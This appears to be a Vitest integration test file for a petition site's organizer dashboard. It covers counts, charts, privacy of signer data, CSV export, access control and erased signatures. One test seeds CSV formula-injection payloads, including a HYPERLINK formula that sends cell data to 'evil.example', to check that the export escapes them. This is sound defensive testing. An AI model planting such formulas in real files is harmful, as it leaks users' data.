import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { sessionCookie } from "../../app/services/session.server";
import { countryName } from "../../app/lib/countries";
import { DAY_MS, expiresAt, newToken } from "../../app/lib/tokens.server";
import { countsPerDay } from "../../app/models/counts.server";
import {
  chartRange,
  dailySeries,
  dashboardFigures,
  deliveryList,
  tallyBigPetitions,
} from "../../app/models/dashboard.server";
import { createDraft } from "../../app/models/organize.server";
import { recountAll } from "../../app/models/counts.server";
import { erasedPersonalData } from "../../app/models/manage-signature.server";
import { PetitionDraftForm } from "../../app/schemas/petition.server";
import { findOrCreateUser, grantRole } from "../../app/models/user.server";
import type { DB } from "../../db/connection";
import type { NameDisplay, Role } from "../../db/schema";
import { startTestApp, type TestApp } from "../helpers/app";
import { onSqliteOnly, recording, sqlitePlan } from "../helpers/database";
import { getPetition, OPEN_SLUG } from "../helpers/signing";

let app: TestApp;
let petitionId: number;
let petitionSlug: string;
const people: Record<"owner" | "coOrganizer" | "moderator" | "admin" | "stranger", string> = {} as never;

/** Someone signed in: an account, a session row keyed by the token's hash, and the cookie the browser would hold. */
async function signIn(email: string, roles: Role[] = []): Promise<string> {
  const user = await findOrCreateUser(app.db, email);
  for (const role of roles) await grantRole(app.db, user.id, role, null);
  const session = newToken();
  const now = new Date();
  await app.db
    .insertInto("sessions")
    .values({
      id_hash: session.hash,
      user_id: user.id,
      created_at: now.toISOString(),
      expires_at: expiresAt(now, DAY_MS),
    })
    .execute();
  return (await sessionCookie(app.config).serialize(session.token)).split(";")[0];
}

function get(path: string, cookie?: string) {
  return fetch(`${app.url}${path}`, { headers: cookie ? { cookie } : {}, redirect: "manual" });
}

type SignatureSeed = {
  name: string;
  email: string;
  country?: string;
  postcode?: string | null;
  nameDisplay?: NameDisplay;
  consent?: boolean;
  status?: "pending" | "confirmed";
  confirmedAt?: string | null;
};

let seq = 0;

/** Signatures written straight into the table, then the counts rebuilt from them as `npm run db:recount` would. */
async function addSignatures(db: DB, id: number, rows: SignatureSeed[]) {
  const now = new Date().toISOString();
  await db
    .insertInto("signatures")
    .values(
      rows.map((r) => {
        const status = r.status ?? "confirmed";
        seq += 1;
        return {
          petition_id: id,
          name: r.name,
          email: r.email,
          canonical_email: `${seq}-${r.email.toLowerCase()}`,
          country: r.country ?? "GB",
          postcode: r.postcode ?? null,
          name_display: r.nameDisplay ?? "hidden",
          updates_consent: r.consent ? 1 : 0,
          consent_wording_version: "updates-v1",
          status,
          token_hash: null,
          token_expires_at: null,
          created_at: now,
          updated_at: now,
          confirmed_at: status === "confirmed" ? (r.confirmedAt ?? now) : null,
        };
      }),
    )
    .execute();
  await recountAll(db);
}

/** Parses CSV as RFC 4180 has it: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  if (field !== "" || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

const day = (offset: number) => new Date(Date.now() + offset * DAY_MS).toISOString().slice(0, 10);

beforeAll(async () => {
  app = await startTestApp({ worker: false });
  const petition = await getPetition(app.db, OPEN_SLUG);
  petitionId = petition.id;
  petitionSlug = petition.slug;
  // Opened five days ago; signatures confirmed three days ago and today, nothing in between.
  await app.db
    .updateTable("petitions")
    .set({ opened_at: `${day(-5)}T09:00:00.000Z` })
    .where("id", "=", petitionId)
    .execute();

  people.owner = await signIn("owner@example.org");
  people.coOrganizer = await signIn("co@example.org");
  people.moderator = await signIn("moderator@example.org", ["moderator"]);
  people.admin = await signIn("admin@example.org", ["admin"]);
  people.stranger = await signIn("stranger@example.org");
  const owner = await findOrCreateUser(app.db, "owner@example.org");
  const co = await findOrCreateUser(app.db, "co@example.org");
  const created_at = new Date().toISOString();
  await app.db
    .insertInto("petition_organizers")
    .values([
      { petition_id: petitionId, user_id: owner.id, role: "owner", created_at },
      { petition_id: petitionId, user_id: co.id, role: "co_organizer", created_at },
    ])
    .execute();

  await addSignatures(app.db, petitionId, [
    {
      name: "Ada Consenting",
      email: "ada.consents@example.org",
      consent: true,
      postcode: "L1 8JQ",
      nameDisplay: "full",
      confirmedAt: `${day(-3)}T10:00:00.000Z`,
    },
    {
      name: "Bea Private",
      email: "bea.private@example.org",
      consent: false,
      postcode: "SW1A 1AA",
      nameDisplay: "first_initial",
      confirmedAt: `${day(-3)}T11:00:00.000Z`,
    },
    {
      name: "Cem Hidden",
      email: "cem.hidden@example.org",
      consent: false,
      country: "FR",
      nameDisplay: "hidden",
      confirmedAt: `${day(0)}T00:30:00.000Z`,
    },
    { name: "Dee Waiting", email: "dee.waiting@example.org", consent: true, status: "pending" },
  ]);
});

afterAll(async () => {
  await app?.stop();
});

describe("the figures", () => {
  test("an organizer sees confirmed, pending, the confirmation rate and how many agreed to updates", async () => {
    const figures = await dashboardFigures(app.db, petitionId);
    expect(figures).toEqual({ confirmed: 3, pending: 1, subscribers: 1, confirmationRate: 75, held: 0, asOf: null });

    const html = await (await get(`/organize/${petitionId}`, people.owner)).text();
    const figure = (label: string) => html.match(new RegExp(`<dt>${label}</dt><dd>([^<]*)</dd>`))?.[1];
    expect(figure("Confirmed")).toBe("3");
    expect(figure("Waiting for confirmation")).toBe("1");
    expect(figure("Confirmation rate")).toBe("75%");
    expect(figure("Agreed to updates")).toBe("1");
  });

  test("a petition nobody has signed shows no rate rather than a division by zero", async () => {
    const empty = await getPetition(app.db, "safety-first-for-sex-workers-reporting-violence");
    expect(await dashboardFigures(app.db, empty.id)).toEqual({
      confirmed: 0,
      pending: 0,
      subscribers: 0,
      confirmationRate: null,
      held: 0,
      asOf: null,
    });
  });

  test("signatures by country come from the per-country counts, with names", async () => {
    const html = await (await get(`/organize/${petitionId}`, people.owner)).text();
    expect(html).toContain(`<td>${countryName("GB")}</td><td class="num">2</td><td class="num">67%</td>`);
    expect(html).toContain(`<td>${countryName("FR")}</td><td class="num">1</td><td class="num">33%</td>`);
  });
});

describe("a big campaign's figures", () => {
  // The petition above, treated as big: over 2 confirmed signatures its figures are counted off the request path.
  const big = { exactUpTo: 2 };

  test("are counted by the scheduled job, a few rows at a time, and shown with the time they were counted", async () => {
    await app.db.deleteFrom("petition_tallies").execute();
    const exact = await dashboardFigures(app.db, petitionId);
    // Before the first count: the public count, exact; the rest not made up.
    expect(await dashboardFigures(app.db, petitionId, big)).toEqual({
      confirmed: exact.confirmed,
      pending: null,
      subscribers: null,
      confirmationRate: null,
      held: null,
      asOf: null,
    });
    const list = await deliveryList(app.db, petitionId, 10, big);
    expect(list).toMatchObject({ confirmed: exact.confirmed, hidden: null, named: null, notListed: null });

    const now = new Date("2026-12-07T10:15:00.000Z");
    // Two signatures per statement: the walk crosses every other petition's signatures too.
    expect(await tallyBigPetitions(app.db, { ...big, chunk: 2, now })).toBeGreaterThanOrEqual(1);
    expect(await dashboardFigures(app.db, petitionId, big)).toEqual({ ...exact, asOf: now.toISOString() });
    expect(await deliveryList(app.db, petitionId, 10, big)).toEqual(await deliveryList(app.db, petitionId, 10));
  });

  // SQLite's query plan: skipped on PostgreSQL, whose planner chooses by statistics (the bench measures the
  // tally at ten million signatures there).
  test.skipIf(onSqliteOnly)("are counted a range of ids at a time, not from a petition's index", async () => {
    const r = recording(app.db);
    await tallyBigPetitions(r.db, { ...big, chunk: 2, now: new Date("2026-12-07T10:16:00.000Z") });
    const walk = r.seen.filter((q) => /group by "petition_id"/.test(q.sql));
    expect(walk.length).toBeGreaterThan(1);
    // Each statement reads its own rows by id; a plan that searches a petition's index reads all its rows.
    expect(sqlitePlan(app.dbLocation, walk[0])).toEqual([
      "SEARCH signatures USING INTEGER PRIMARY KEY (rowid>? AND rowid<?)",
      "USE TEMP B-TREE FOR GROUP BY",
    ]);
  });

  test("keep the public count up to the second between counts", async () => {
    const now = new Date("2026-12-07T10:20:00.000Z");
    await tallyBigPetitions(app.db, { ...big, now });
    const before = await dashboardFigures(app.db, petitionId, big);
    await addSignatures(app.db, petitionId, [{ name: "Late Signer", email: "late.signer@example.org" }]);
    const after = await dashboardFigures(app.db, petitionId, big);
    expect(after.confirmed).toBe(before.confirmed + 1);
    // The rest waits for the next count, and says when it was made.
    expect(after).toMatchObject({ pending: before.pending, subscribers: before.subscribers, asOf: now.toISOString() });
    await tallyBigPetitions(app.db, { ...big, now: new Date("2026-12-07T10:25:00.000Z") });
    expect(await dashboardFigures(app.db, petitionId, big)).toEqual({
      ...(await dashboardFigures(app.db, petitionId)),
      asOf: "2026-12-07T10:25:00.000Z",
    });
    await app.db.deleteFrom("signatures").where("email", "=", "late.signer@example.org").execute();
    await recountAll(app.db);
  });
});

describe("signatures per day", () => {
  test("every day from the opening to today is there, days without signatures as zero, with a running total", async () => {
    const perDay = await countsPerDay(app.db, petitionId);
    expect(perDay).toEqual([
      { day: day(-3), count: 2 },
      { day: day(0), count: 1 },
    ]);
    const petition = await getPetition(app.db, OPEN_SLUG);
    const range = chartRange(petition, perDay);
    expect(range).toEqual({ start: day(-5), end: day(0) });
    expect(dailySeries(perDay, range!).points).toEqual([
      { day: day(-5), confirmed: 0, total: 0 },
      { day: day(-4), confirmed: 0, total: 0 },
      { day: day(-3), confirmed: 2, total: 2 },
      { day: day(-2), confirmed: 0, total: 2 },
      { day: day(-1), confirmed: 0, total: 2 },
      { day: day(0), confirmed: 1, total: 3 },
    ]);
  });

  test("the chart is an accessible SVG drawn on the server, with its numbers as a table", async () => {
    const html = await (await get(`/organize/${petitionId}`, people.owner)).text();
    const svg = html.match(/<svg[^>]*class="chart-svg"[^>]*>/)?.[0] ?? "";
    expect(svg).toContain('role="img"');
    expect(svg).toContain('viewBox="0 0 340 226"');
    expect(svg).toMatch(/aria-labelledby="signature-chart-title signature-chart-desc"/);
    expect(html).toMatch(/<desc id="signature-chart-desc">[^<]*3 signatures were confirmed, bringing the total to 3\./);
    // No inline styles anywhere: the CSP allows only the site's stylesheet.
    expect(html).not.toMatch(/\sstyle="/);
    const table = html.match(/<details class="chart-data">([^]*?)<\/details>/)?.[1] ?? "";
    const rows = [
      ...table.matchAll(/<tr><th scope="row">[^<]*<\/th><td class="num">(\d+)<\/td><td class="num">(\d+)<\/td><\/tr>/g),
    ].map((m) => [Number(m[1]), Number(m[2])]);
    expect(rows).toEqual([
      [0, 0],
      [0, 0],
      [2, 2],
      [0, 2],
      [0, 2],
      [1, 3],
    ]);
  });

  test("a long campaign shows its last 90 days, with the earlier ones still in the total", () => {
    const series = dailySeries(
      [
        { day: "2026-01-01", count: 5 },
        { day: "2026-03-01", count: 2 },
        { day: "2026-05-01", count: 1 },
      ],
      { start: "2026-01-01", end: "2026-05-01" },
    );
    expect(series.points).toHaveLength(90);
    expect(series.daysLeftOut).toBe(31 + 28 + 31 + 30 + 1 - 90);
    expect(series.points[0]).toEqual({ day: "2026-02-01", confirmed: 0, total: 5 });
    expect(series.points.at(-1)).toEqual({ day: "2026-05-01", confirmed: 1, total: 8 });
  });

  test("a closed campaign's chart ends when it closed, not today", () => {
    const range = chartRange(
      { status: "closed", opened_at: "2026-01-10T12:00:00.000Z", closed_at: "2026-02-01T12:00:00.000Z" },
      [{ day: "2026-01-11" }, { day: "2026-01-20" }],
      new Date("2026-11-27T12:00:00.000Z"),
    );
    expect(range).toEqual({ start: "2026-01-10", end: "2026-02-01" });
  });
});

describe("signers' personal data on the dashboard", () => {
  test("an organizer sees the email address only of signers who agreed to updates", async () => {
    const html = await (await get(`/organize/${petitionId}`, people.owner)).text();
    const recent = html.match(/<table class="table table--wide recent-signatures">([^]*?)<\/table>/)?.[1] ?? "";
    const row = (name: string) =>
      recent.match(new RegExp(`<tr><td><span translate="no">${name}</span></td>([^]*?)</tr>`))?.[1] ?? "";
    expect(row("Ada Consenting")).toContain("ada.consents@example.org");
    expect(row("Ada Consenting")).toContain("L1 8JQ");
    expect(row("Bea Private")).toContain(
      '<span aria-hidden="true">—</span><span class="visually-hidden">not shared</span>',
    );
    expect(row("Cem Hidden")).toContain("not shared");
    // Not in the table, and not anywhere else in the page either (the loader's data travels inside it).
    expect(html).not.toContain("bea.private@example.org");
    expect(html).not.toContain("cem.hidden@example.org");
    // Pending signatures are not signers yet.
    expect(html).not.toContain("Dee Waiting");
  });

  test("a co-organizer sees the same as the owner", async () => {
    const res = await get(`/organize/${petitionId}`, people.coOrganizer);
    expect(res.status).toBe(200);
    const html = await res.text();
    expect(html).toContain("ada.consents@example.org");
    expect(html).not.toContain("bea.private@example.org");
    expect(html).toContain(`href="/organize/${petitionId}/edit"`);
    expect(html).toContain(`href="/organize/${petitionId}/manage"`);
  });
});

describe("the CSV export", () => {
  test("an organizer downloads every confirmed signature, emails only where the signer agreed", async () => {
    const res = await get(`/organize/${petitionId}/export.csv`, people.owner);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("cache-control")).toBe("private, no-store");
    expect(res.headers.get("content-disposition")).toBe(
      `attachment; filename="signatures-${petitionSlug}-${day(0)}.csv"`,
    );
    const bytes = Buffer.from(await res.arrayBuffer());
    // A byte order mark first, so that Excel reads the file as UTF-8.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString("utf8");
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([
      "Name",
      "Name shown on the petition",
      "Country",
      "Postcode",
      "Email",
      "Agreed to updates",
      "Confirmed at (UTC)",
      "Source",
      "Referrer data",
    ]);
    expect(rows).toEqual([
      [
        "Ada Consenting",
        "full name",
        countryName("GB"),
        "L1 8JQ",
        "ada.consents@example.org",
        "yes",
        `${day(-3)}T10:00:00.000Z`,
        "",
        "",
      ],
      [
        "Bea Private",
        "first name and initial",
        countryName("GB"),
        "SW1A 1AA",
        "",
        "no",
        `${day(-3)}T11:00:00.000Z`,
        "",
        "",
      ],
      ["Cem Hidden", "not shown", countryName("FR"), "", "", "no", `${day(0)}T00:30:00.000Z`, "", ""],
    ]);
    expect(text).not.toContain("bea.private@example.org");
    expect(text).not.toContain("Dee Waiting");
  });

  test("an organizer reading in Welsh or Spanish gets the columns headed in that language, the values as stored", async () => {
    const headed = async (lang: string) => {
      const res = await get(`/organize/${petitionId}/export.csv?lang=${lang}`, people.owner);
      expect(res.status).toBe(200);
      const [header, ...rows] = parseCsv(
        Buffer.from(await res.arrayBuffer())
          .subarray(3)
          .toString("utf8"),
      );
      return { header, rows };
    };
    const english = await headed("en");
    const welsh = await headed("cy");
    expect(welsh.header.slice(0, 4)).toEqual(["Enw", "Yr enw a ddangosir ar y ddeiseb", "Gwlad", "Cod post"]);
    const spanish = await headed("es");
    expect(spanish.header.slice(0, 4)).toEqual([
      "Nombre",
      "Nombre que se muestra en la petición",
      "País",
      "Código postal",
    ]);
    expect(welsh.header).toHaveLength(english.header.length);
    // A spreadsheet or a CRM reads the values: they stay as they are whatever the organizer's language.
    expect(welsh.rows).toEqual(english.rows);
    expect(spanish.rows).toEqual(english.rows);
  });

  test("a name or postcode that a spreadsheet would run as a formula is written as text", async () => {
    const other = await getPetition(app.db, "safety-first-for-sex-workers-reporting-violence");
    const owner = await findOrCreateUser(app.db, "owner@example.org");
    await app.db
      .insertInto("petition_organizers")
      .values({ petition_id: other.id, user_id: owner.id, role: "owner", created_at: new Date().toISOString() })
      .execute();
    const nasty = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+SUM(1,2)",
      "-1+2",
      "@cmd",
      "\tTabby",
      "\rReturn",
      'Zoë, "the" Signer',
    ];
    await addSignatures(
      app.db,
      other.id,
      nasty.map((name, i) => ({
        name,
        email: `nasty${i}@example.org`,
        country: "US",
        postcode: i === 0 ? "=1+1" : null,
        confirmedAt: `2026-11-0${i + 1}T12:00:00.000Z`,
      })),
    );
    const text = await (await get(`/organize/${other.id}/export.csv`, people.owner)).text();
    const rows = parseCsv(text).slice(1);
    expect(rows.map((r) => r[0])).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      "'+SUM(1,2)",
      "'-1+2",
      "'@cmd",
      "'\tTabby",
      "'\rReturn",
      'Zoë, "the" Signer',
    ]);
    expect(rows[0][3]).toBe("'=1+1");
  });

  test("moderators, other users and the signed-out cannot download it", async () => {
    expect((await get(`/organize/${petitionId}/export.csv`, people.moderator)).status).toBe(404);
    expect((await get(`/organize/${petitionId}/export.csv`, people.admin)).status).toBe(404);
    expect((await get(`/organize/${petitionId}/export.csv`, people.stranger)).status).toBe(404);
    const anonymous = await get(`/organize/${petitionId}/export.csv`);
    expect(anonymous.status).toBe(302);
    expect(anonymous.headers.get("location")).toBe(
      `/sign-in?redirectTo=${encodeURIComponent(`/organize/${petitionId}/export.csv`)}`,
    );
  });

  test("each download is recorded in the audit log", async () => {
    await (await get(`/organize/${petitionId}/export.csv`, people.coOrganizer)).text();
    const co = await findOrCreateUser(app.db, "co@example.org");
    const entries = await app.db
      .selectFrom("audit_log")
      .select(["actor_id"])
      .where("action", "=", "signatures.export")
      .where("petition_id", "=", petitionId)
      .execute();
    expect(entries.map((e) => e.actor_id)).toContain(co.id);
  });
});

describe("who may open the dashboard", () => {
  test("a moderator sees the counts, read-only, and no signer's personal data", async () => {
    for (const who of [people.moderator, people.admin]) {
      const res = await get(`/organize/${petitionId}`, who);
      expect(res.status).toBe(200);
      const html = await res.text();
      expect(html).toMatch(/<dt>Confirmed<\/dt><dd>3<\/dd>/);
      expect(html).toContain("It shows counts only");
      for (const personal of [
        "Ada Consenting",
        "ada.consents@example.org",
        "L1 8JQ",
        "Bea Private",
        "SW1A 1AA",
        "Cem Hidden",
      ]) {
        expect(html).not.toContain(personal);
      }
      expect(html).not.toContain(`/organize/${petitionId}/edit`);
      expect(html).not.toContain(`/organize/${petitionId}/manage`);
      expect(html).not.toContain(`/organize/${petitionId}/export.csv`);
      expect(html).not.toContain(`/organize/${petitionId}/deliver`);
    }
  });

  test("anyone else is told the dashboard does not exist", async () => {
    for (const path of [
      `/organize/${petitionId}`,
      `/organize/${petitionId}/deliver`,
      "/organize/999999",
      "/organize/abc",
    ]) {
      expect([path, (await get(path, people.stranger)).status]).toEqual([path, 404]);
    }
  });

  test("someone signed out is sent to sign in, and back here afterwards", async () => {
    const res = await get(`/organize/${petitionId}?published=1`);
    expect(res.status).toBe(302);
    expect(res.headers.get("location")).toBe(
      `/sign-in?redirectTo=${encodeURIComponent(`/organize/${petitionId}?published=1`)}`,
    );
  });

  test("organizers get the links to edit, manage, the public page, the export and the delivery page", async () => {
    const html = await (await get(`/organize/${petitionId}`, people.owner)).text();
    for (const href of [
      `/organize/${petitionId}/edit`,
      `/organize/${petitionId}/manage`,
      `/petitions/${petitionSlug}`,
      `/organize/${petitionId}/export.csv`,
      `/organize/${petitionId}/deliver`,
    ]) {
      expect(html).toContain(`href="${href}"`);
    }
  });

  test("a draft's dashboard offers to finish it, and has no figures, public page, export or delivery yet", async () => {
    const owner = await findOrCreateUser(app.db, "owner@example.org");
    const draftId = await createDraft(
      app.db,
      owner.id,
      PetitionDraftForm.parse({ title: "A draft about bus lanes", summary: "", decisionMakers: [] }),
    );
    const html = (await (await get(`/organize/${draftId}`, people.owner)).text()).replace(/<!-- -->/g, "");
    expect(html).toContain("This is a draft, not yet on the site.");
    expect(html).toMatch(new RegExp(`<a [^>]*href="/organize/${draftId}/edit">Edit the draft</a>`));
    expect(html).toContain("appear here once the petition is published");
    expect(html).not.toContain(`/organize/${draftId}/export.csv`);
    expect(html).not.toContain(`/organize/${draftId}/deliver`);
    expect(html).not.toContain('href="/petitions/');
    expect(html).not.toContain("<svg");
  });

  test("after an action, the dashboard says what happened in plain words", async () => {
    const cases: Record<string, string> = {
      submitted: "Your petition has been sent for review.",
      published: "Your petition is published and open for signatures.",
      edited: "Your changes are saved.",
      closed: "The petition is closed.",
      victory: "Congratulations!",
    };
    for (const [flag, words] of Object.entries(cases)) {
      const html = await (await get(`/organize/${petitionId}?${flag}=1`, people.owner)).text();
      expect(html).toMatch(new RegExp(`<p class="notice" role="status">${words.replace(/[.!?]/g, "\\$&")}`));
    }
    expect(await (await get(`/organize/${petitionId}`, people.owner)).text()).not.toContain('role="status"');
  });
});

describe("the petition for delivery", () => {
  test("lists signers as they chose to be named, by country, and counts the rest", async () => {
    const res = await get(`/organize/${petitionId}/deliver`, people.owner);
    expect(res.status).toBe(200);
    const html = (await res.text()).replace(/<!-- -->/g, "");
    expect(html).toContain("Make the Merseyside model of policing UK-wide");
    expect(html).toContain("The Home Secretary");
    expect(html).toMatch(/Signed by <strong>3<\/strong> people, as of/);
    expect(html).toContain('<li translate="no">Ada Consenting</li>');
    expect(html).toContain('<li translate="no">Bea P.</li>');
    expect(html).not.toContain("Bea Private");
    expect(html).not.toContain("Cem Hidden");
    expect(html).toContain("And 1 other who asked not to be named.");
    // No email address or postcode on a page meant for the decision maker.
    for (const personal of ["ada.consents@example.org", "bea.private@example.org", "L1 8JQ", "SW1A 1AA"])
      expect(html).not.toContain(personal);
  });

  test("when every signer asked not to be named, it says so and lists nobody", async () => {
    const closed = await getPetition(app.db, "ugly-mugs-funding-2026");
    const owner = await findOrCreateUser(app.db, "owner@example.org");
    await app.db
      .insertInto("petition_organizers")
      .values({ petition_id: closed.id, user_id: owner.id, role: "owner", created_at: new Date().toISOString() })
      .execute();
    await addSignatures(app.db, closed.id, [
      { name: "Quiet One", email: "q1@example.org", nameDisplay: "hidden" },
      { name: "Quiet Two", email: "q2@example.org", nameDisplay: "hidden" },
    ]);
    const html = (await (await get(`/organize/${closed.id}/deliver`, people.owner)).text()).replace(/<!-- -->/g, "");
    expect(html).toContain("All 2 signers asked not to be named.");
    expect(html).not.toContain("Quiet");
    expect(html).not.toContain('class="delivery-names"');
  });

  test("moderators cannot open it", async () => {
    expect((await get(`/organize/${petitionId}/deliver`, people.moderator)).status).toBe(404);
  });
});

describe("a signature whose details were erased", () => {
  test("still counts, and the organizer's list and export show it as erased, with nothing of the signer's", async () => {
    await addSignatures(app.db, petitionId, [
      {
        name: "Eve Erasing",
        email: "eve.erasing@example.org",
        consent: true,
        postcode: "M1 1AA",
        confirmedAt: new Date().toISOString(),
      },
    ]);
    await app.db
      .updateTable("signatures")
      .set(erasedPersonalData(new Date()))
      .where("email", "=", "eve.erasing@example.org")
      .execute();
    try {
      const html = await (await get(`/organize/${petitionId}`, people.owner)).text();
      const recent = html.match(/<table class="table table--wide recent-signatures">([^]*?)<\/table>/)?.[1] ?? "";
      const erasedRow = recent.match(/<tr><td><span class="hint">Details erased<\/span><\/td>([^]*?)<\/tr>/)?.[1];
      expect(erasedRow).toBeDefined();
      expect(erasedRow).toContain('<span class="visually-hidden">erased</span>');
      expect(html).not.toContain("Eve Erasing");
      expect(html).not.toContain("eve.erasing@example.org");
      expect(html).not.toContain("M1 1AA");
      // The export lists it too, saying why it has no name.
      const csv = await (await get(`/organize/${petitionId}/export.csv`, people.owner)).text();
      const erasedRecord = parseCsv(csv.replace(/^\uFEFF/, "")).find((r) => r[0] === "(details erased)");
      expect(erasedRecord?.slice(1, 6)).toEqual(["details erased", countryName("GB"), "", "", "no"]);
      expect(csv).not.toContain("Eve Erasing");
      expect(csv).not.toContain("eve.erasing@example.org");
    } finally {
      await app.db
        .deleteFrom("signatures")
        .where("anonymised_at", "is not", null)
        .where("petition_id", "=", petitionId)
        .execute();
      await recountAll(app.db);
    }
  });
});
